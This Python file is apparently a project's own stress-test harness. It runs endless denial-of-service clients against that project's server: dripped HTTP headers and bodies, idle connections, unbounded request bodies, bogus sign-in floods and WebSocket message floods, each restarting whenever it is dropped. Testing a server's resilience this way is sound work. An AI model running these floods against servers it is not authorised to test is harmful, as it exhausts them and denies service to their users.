"""Clients that wear a server out: half-sent requests, silent connections, floods. Each begins anew when it is ended."""

import argparse
import asyncio
import json
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from urllib.parse import urlsplit

import msgspec
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake
from websockets.typing import Origin, Subprotocol

from server.scene.viser_adapter.contract import VERSION as VISER_VERSION

_CAMERA = msgspec.msgpack.encode(
    {
        "type": "ViewerCameraMessage",
        "wxyz": (1.0, 0.0, 0.0, 0.0),
        "position": (0.0, -2.0, 1.5),
        "fov": 0.8,
        "near": 0.1,
        "far": 1000.0,
        "image_height": 600,
        "image_width": 800,
        "look_at": (0.0, 1.0, 1.0),
        "up_direction": (0.0, 0.0, 1.0),
    }
)
_PING = '{"type":"Ping","number":1,"rendered":0}'
_PIECE = b"x" * 65536


class Attackers:
    """Every attack there is, as a coroutine without an end; `done` counts what it did."""

    def __init__(self, url: str, cookie: str) -> None:
        """On the server at `url`; the cookie is that of a viewer, who may only look on."""
        self.url, self._cookie = url, cookie
        self._host, self._port = urlsplit(url).hostname, urlsplit(url).port
        self.done: Counter[str] = Counter()

    async def head(self) -> None:
        """A request whose head goes on, line by line."""
        reader, writer = await self._open()
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n")
        await self._drip(reader, writer, b"X: 1\r\n")

    async def body(self) -> None:
        """A request with a session whose body goes on, byte by byte."""
        reader, writer = await self._open()
        writer.write(self._post("/api/arm", 60_000))
        await self._drip(reader, writer, b"x")

    async def idle(self) -> None:
        """A connection that says nothing."""
        reader, _ = await self._open()
        await reader.read()

    async def large(self) -> None:
        """A body without an end, as fast as it is taken."""
        _, writer = await self._open()
        writer.write(self._post("/api/arm", 10**12))
        while True:
            writer.write(_PIECE)
            await writer.drain()
            self.done["bytes"] += len(_PIECE)

    async def login(self) -> None:
        """Sign-ins with tokens that are none, as fast as they are answered."""
        reader, writer = await self._open()
        body = json.dumps({"token": "x" * 43}).encode()
        while True:
            writer.write(self._post("/api/sign-in", len(body), with_session=False) + body)
            head = await reader.readuntil(b"\r\n\r\n")
            length = next(line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            await reader.readexactly(int(length.partition(b":")[2]))
            self.done[f"answers {head.split()[1].decode()}"] += 1

    async def view(self) -> None:
        """Messages to the 3-D view, as fast as they are taken."""
        await self._flood("/viser", _CAMERA, [Subprotocol(f"viser-v{VISER_VERSION}")])

    async def page(self) -> None:
        """Messages of a page, as fast as they are taken."""
        await self._flood("/ws", _PING)

    async def _flood(self, path: str, message: str | bytes, protocols: list[Subprotocol] | None = None) -> None:
        async with connect(
            self.url.replace("http", "ws", 1) + path,
            origin=Origin(self.url),
            additional_headers={"Cookie": self._cookie},
            subprotocols=protocols,
            max_size=None,
            max_queue=None,
            compression=None,
            close_timeout=0.1,
            proxy=None,
        ) as socket:
            self.done["opened"] += 1
            reading = asyncio.create_task(_read(socket))
            try:
                while True:
                    await socket.send(message)
                    self.done["messages"] += 1
                    await asyncio.sleep(0)
            finally:
                reading.cancel()

    async def _open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        pair = await asyncio.open_connection(self._host, self._port)
        self.done["opened"] += 1
        return pair

    async def _drip(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drop: bytes) -> None:
        ended = asyncio.create_task(reader.read())
        while not ended.done():
            writer.write(drop)
            await asyncio.wait([ended], timeout=0.5)

    def _post(self, path: str, length: int, with_session: bool = True) -> bytes:
        cookie = f"Cookie: {self._cookie}\r\n" if with_session else ""
        return (
            f"POST {path} HTTP/1.1\r\nHost: a\r\nOrigin: {self.url}\r\n{cookie}"
            f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
        ).encode()

    async def again(self, attack: Callable[[], Awaitable[None]]) -> None:
        """Begin anew whenever it was ended."""
        while True:
            try:
                await attack()
                self.done["ended"] += 1
            except (OSError, EOFError, ConnectionClosed, InvalidHandshake, TimeoutError) as error:
                self.done[f"ended by {type(error).__name__}"] += 1
            await asyncio.sleep(0)


async def _read(socket: ClientConnection) -> None:
    try:
        async for _ in socket:
            pass
    except ConnectionClosed:
        pass


async def attack(url: str, cookie: str, kind: str, count: int) -> None:
    """So many at once, until standard input closes; then what they did."""
    attackers = Attackers(url, cookie)
    tasks = [asyncio.create_task(attackers.again(getattr(attackers, kind))) for _ in range(count)]
    print("begun", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    print(json.dumps(attackers.done), flush=True)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def main(argv: Sequence[str] | None = None) -> int:
    """Attack until standard input closes. Returns the exit code."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url", help="of the server, http://HOST:PORT")
    parser.add_argument("cookie", help="NAME=VALUE of a session")
    parser.add_argument("kind", choices=("head", "body", "idle", "large", "login", "view", "page"))
    parser.add_argument("count", type=int, help="how many at once")
    arguments = parser.parse_args(argv)
    asyncio.run(attack(arguments.url, arguments.cookie, arguments.kind, arguments.count))
    return 0


if __name__ == "__main__":
    sys.exit(main())
